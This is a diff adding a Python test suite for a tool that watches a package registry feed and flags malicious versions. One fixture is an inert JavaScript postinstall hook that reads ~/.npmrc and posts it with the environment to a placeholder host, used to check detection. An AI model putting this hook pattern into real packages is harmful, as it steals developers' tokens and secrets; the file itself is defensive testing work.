@@ -1,0 +1,263 @@
+"""watch.py - the registry followed: new versions, late documents, feeds that repeat, go back or fail, and what a kill leaves behind."""
+import json
+import os
+import signal
+import sqlite3
+import subprocess
+import sys
+import time
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "tools"))
+
+from tap import QANAT, Run, done, ok, put, scratch
+import feed_simulator as sim
+
+# Inert: the host does not exist, and the first line ends the script.
+THIEF = ("if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
+         "const fs = require('fs'), os = require('os'), https = require('https');\n"
+         "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
+         "const r = https.request({ host: 'collect.invalid', path: '/x', method: 'POST' });\n"
+         "r.write(t + JSON.stringify(process.env)); r.end();\n")
+HOOK = {"scripts": {"postinstall": "node setup.js"}}
+PATIENCE = 4 if "asan" in os.path.basename(os.path.dirname(QANAT)) else 1
+
+
+class Watched:
+    """A registry, and what is remembered of it in a directory."""
+
+    def __init__(self, d, **kw):
+        self.registry = sim.Registry(**kw)
+        self.server = self.registry.serve()
+        self.state = os.path.join(d, "state")
+        self.feed = self.registry.base + "/_changes"
+
+    def args(self, *more, feed=True):
+        return ["watch", *(["--feed", self.feed] if feed else []), "--registry", self.registry.base, "--state", self.state,
+                "--no-intel", "--poll", "50", *more]
+
+    def once(self, *more, feed=True, **kw):
+        return Run(*self.args("--once", *more, feed=feed), **kw)
+
+    def start(self, *more):
+        return subprocess.Popen([QANAT, *self.args(*more)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+
+    def ask(self, sql):
+        with sqlite3.connect(os.path.join(self.state, "watch.db"), timeout=30) as db:
+            return db.execute(sql).fetchall()
+
+    def seen(self):
+        return {f"{n}@{v}": verdict for n, v, verdict in self.ask("SELECT name, version, verdict FROM version")}
+
+    def status(self):
+        return Run("watch", "status", "--state", self.state, "--format", "json").json
+
+    def wait(self, until, seconds=30):
+        end = time.time() + seconds * PATIENCE
+        while time.time() < end:
+            try:
+                if until():
+                    return True
+            except sqlite3.OperationalError:
+                pass
+            time.sleep(0.05)
+        return False
+
+
+def stop(p):
+    p.send_signal(signal.SIGTERM)
+    out, err = p.communicate(timeout=60 * PATIENCE)
+    return p.returncode, out.decode(), err.decode()
+
+
+def wrong_use(d):
+    r = Run("watch", "--state", d)
+    ok(r.code == 2 and b"--feed URL or --input FILE" in r.err, "without a feed there is nothing to follow", r)
+    r = Run("watch", "follow", "--state", d)
+    ok(r.code == 2 and b"follow" in r.err, "a part that there is not", r)
+    r = Run("watch", "--feed", "http://127.0.0.1:1/_changes", "--since", "a b", "--state", d)
+    ok(r.code == 2 and b"no sequence" in r.err, "a sequence that is none", r)
+    r = Run("watch", "status", "--state", os.path.join(d, "empty"))
+    ok(r.code != 0 and b"nothing was watched yet" in r.err, "the status of nothing", r)
+    r = Run("watch", "--once", "--input", os.path.join(d, "missing"), "--state", os.path.join(d, "s"))
+    ok(r.code != 0 and b"missing" in r.err, "an input that is not there", r)
+
+
+def ordinary(d):
+    w = Watched(d)
+    w.registry.publish("plain", "1.0.0", {"index.js": "module.exports = 1;\n"})
+    w.registry.publish("@scope/plain", "1.0.0", {"index.js": "module.exports = 2;\n"})
+    r = w.once("--since", "0")
+    ok(r.code == 0 and w.seen() == {"plain@1.0.0": "clean", "@scope/plain@1.0.0": "clean"}, "what the feed has is looked at", r)
+    w.registry.publish("plain", "1.0.1", {"index.js": "module.exports = 1;\n", "setup.js": THIEF}, manifest=HOOK)
+    r = w.once()
+    ok(w.seen().get("plain@1.0.1") == "malicious", "a stolen package is found", r)
+    ok(r.out.startswith(b"malicious") and b"plain@1.0.1" in r.out, "and told in one line", r)
+    r = w.once()
+    ok(r.out == b"" and len(w.seen()) == 3 and w.ask("SELECT count(*) FROM judgement") == [(3,)], "nothing is judged twice", r)
+    ok(w.ask("SELECT count(*) FROM finding f JOIN version v ON v.id = f.version WHERE v.verdict = 'malicious'")[0][0] > 0 and
+       w.ask("SELECT count(*) FROM events") == [(3,)], "its findings and events are on record")
+    st = w.status()
+    ok(st["seq"] == "3" and st["versions"] == 3 and st["malicious"] == 1 and st["queued"] == 0, "the status tells so", st)
+    r = Run("watch", "status", "--state", w.state)
+    ok(b"1 malicious" in r.out and b"place" in r.out, "also for people", r)
+
+
+def begin_at_the_end(d):
+    w = Watched(d)
+    w.registry.publish("old", "1.0.0", {"index.js": "1;\n"})
+    r = w.once()
+    ok(r.code == 0 and w.seen() == {} and w.status()["seq"] == "1", "a feed is followed from its end", r)
+    w.registry.publish("new", "1.0.0", {"index.js": "1;\n"})
+    r = w.once()
+    ok(w.seen() == {"new@1.0.0": "clean"}, "and then nothing is missed", r)
+
+
+def other_bytes(d):
+    w = Watched(d)
+    w.registry.publish("moved", "1.0.0", {"index.js": "1;\n"})
+    w.once("--since", "0")
+    w.registry.publish("moved", "1.0.0", {"index.js": "1;\n", "setup.js": THIEF}, manifest=HOOK)
+    w.once()
+    ok(w.seen() == {"moved@1.0.0": "malicious"}, "a version with other bytes is looked at again", w.seen())
+    ok(w.ask("SELECT verdict FROM judgement ORDER BY id") == [("clean",), ("malicious",)], "its first verdict is not forgotten")
+
+
+def old_versions(d):
+    w = Watched(d)
+    year = int(time.time() * 1000) - 365 * 24 * 3600 * 1000
+    for i in range(5):
+        w.registry.publish("long", f"1.{i}.0", {"index.js": f"{i};\n"}, when=year + i)
+    w.registry.publish("long", "0.9.9", {"index.js": "1;\n"})
+    r = w.once("--since", "0")
+    ok(w.seen() == {"long@0.9.9": "clean"}, "of what was there before, only the last one published is news", r)
+
+
+def late_documents(d):
+    w = Watched(d, lag_ms=1500)
+    p = w.start("--since", "0")
+    w.registry.publish("late", "1.0.0", {"index.js": "1;\n"})
+    found = w.wait(lambda: w.seen().get("late@1.0.0") == "clean")
+    code, _, err = stop(p)
+    ok(found and code == 0, "a document that shows the version later than the feed is asked for again", err)
+
+
+def strange_feeds(d):
+    w = Watched(d)
+    for i in range(3):
+        w.registry.publish(f"p{i}", "1.0.0", {"index.js": f"{i};\n"})
+    w.registry.touch("p1")
+    w.registry.touch("p1")
+    w.registry.delete("p2")
+    r = w.once("--since", "0")
+    ok(sorted(w.seen()) == ["p0@1.0.0", "p1@1.0.0"] and r.code == 0, "what was deleted is not there, what is repeated is there once", r)
+    w.ask("UPDATE setting SET value = '500' WHERE key = 'feed.seq'")
+    w.registry.publish("after", "1.0.0", {"index.js": "1;\n"})
+    r = w.once()
+    ok(b"began anew" in r.err, "a feed that ends before our place is noticed", r)
+    r = w.once()
+    ok("after@1.0.0" in w.seen(), "and nothing of it is missed", r)
+    ok(w.ask("SELECT count(*) FROM judgement") == [(3,)], "nor judged twice")
+
+
+def failing_registry(d):
+    w = Watched(d, flaky=0.4)
+    for i in range(20):
+        w.registry.publish(f"f{i}", "1.0.0", {"index.js": f"{i};\n"})
+    p = w.start("--since", "0")
+    found = w.wait(lambda: sorted(w.seen().values()) == ["clean"] * 20, 90)
+    code, _, err = stop(p)
+    ok(found and code == 0, "a registry that fails four times in ten loses nothing", f"{w.seen()}\n{err}")
+
+
+def bad_pages(d):
+    class Lying(sim.Registry):
+        page = b"{}"
+
+        def answer(self, path):
+            if "_changes" in path:
+                self.requests["feed"] += 1
+                return 200, "application/json", self.page
+            return super().answer(path)
+
+    w = Watched(d)
+    w.server.shutdown()
+    w.registry = Lying()
+    w.server = w.registry.serve()
+    w.feed = w.registry.base + "/_changes"
+    for page in (b"{}", b"[" * 100000, b'{"results":[{"seq":1,"id":"a"}],"last_seq":{}}', b"\xff\xfe", b'{"results":[],"last_seq":"' + b"9" * 9999 + b'"}'):
+        w.registry.page = page
+        p = w.start("--since", "0")
+        asked = w.wait(lambda: w.registry.requests["feed"] > 0)
+        time.sleep(0.3)
+        code, _, err = stop(p)
+        ok(asked and code == 0 and "cannot be followed" in err, f"a page that is none is told and tried again: {page[:30]!r}", err)
+        w.registry.requests["feed"] = 0
+    w.registry.page = b'{"results":[{"seq":1,"id":"../../x"},{"seq":2,"id":"_design/a"},{"seq":3,"id":".hidden"}],"last_seq":3}'
+    p = w.start("--since", "0")
+    moved = w.wait(lambda: w.status()["seq"] == "3")
+    stop(p)
+    ok(moved and w.registry.requests["document"] == 0, "names that are none are never asked for", w.registry.requests)
+
+
+def lists(d):
+    w = Watched(d)
+    for n in ("listed", "@s/listed", "other"):
+        w.registry.publish(n, "1.0.0", {"index.js": "1;\n"})
+    names = put(os.path.join(d, "names"), "# mine\nlisted\n@s/listed\n../no\n")
+    r = w.once("--input", names, feed=False)
+    ok(r.code == 0 and sorted(w.seen()) == ["@s/listed@1.0.0", "listed@1.0.0"] and b"1 lines" in r.err, "a list of names", r)
+    feed = put(os.path.join(d, "feed"), "".join(json.dumps({"seq": s, "id": n}) + "\n" for s, n, _ in w.registry.feed))
+    r = w.once("--input", feed, feed=False)
+    ok(len(w.seen()) == 3, "a recorded feed", r)
+    r = w.once("--input", put(os.path.join(d, "bad"), "ok\n{broken\n"), feed=False)
+    ok(r.code != 0 and b"line 2" in r.err, "one that is broken is named with its line", r)
+    r = w.once("--input", put(os.path.join(d, "gone"), "not-there\n"), feed=False)
+    ok(r.code == 0 and w.status()["waiting"] == 1, "what the registry does not have waits to be tried again", r)
+
+
+def killed(d):
+    """What was published while the watcher was killed again and again is there once, with one verdict."""
+    w = Watched(d)
+    n = 0
+    for round_ in range(30):
+        p = w.start("--since", "0")
+        for _ in range(10):
+            w.registry.publish(f"k{n % 70}", f"1.0.{n // 70}", {"index.js": f"module.exports = {n};\n"})
+            n += 1
+        time.sleep(0.05 + (round_ * 37 % 40) / 100 * PATIENCE)
+        p.kill()
+        p.communicate()
+    w.once("--since", "0")
+    w.wait(lambda: w.once().code == 0 and w.status()["queued"] == 0, 60)
+    seen = w.seen()
+    wanted = {f"k{i % 70}@1.0.{i // 70}" for i in range(n)}
+    ok(set(seen) == wanted and set(seen.values()) == {"clean"}, f"30 kills: {n} versions published, each there", wanted ^ set(seen))
+    ok(w.ask("SELECT version FROM judgement GROUP BY version HAVING count(*) > 1") == [], "none of them judged twice")
+    ok(w.ask("PRAGMA quick_check") == [("ok",)], "the store is sound")
+
+
+def locked_store(d):
+    w = Watched(d)
+    w.registry.publish("a", "1.0.0", {"index.js": "1;\n"})
+    w.once("--since", "0")
+    db = sqlite3.connect(os.path.join(w.state, "watch.db"), isolation_level=None, timeout=30)
+    db.execute("BEGIN IMMEDIATE")
+    w.registry.publish("b", "1.0.0", {"index.js": "1;\n"})
+    p = w.start()
+    time.sleep(2)
+    ok(p.poll() is None, "a store that somebody holds is waited for")
+    db.execute("COMMIT")
+    found = w.wait(lambda: "b@1.0.0" in w.seen())
+    code, _, err = stop(p)
+    ok(found and code == 0, "and then written to", err)
+
+
+def main():
+    for test in (wrong_use, ordinary, begin_at_the_end, other_bytes, old_versions, late_documents, strange_feeds, failing_registry,
+                 bad_pages, lists, killed, locked_store):
+        with scratch() as d:
+            test(d)
+    done()
+
+
+main()
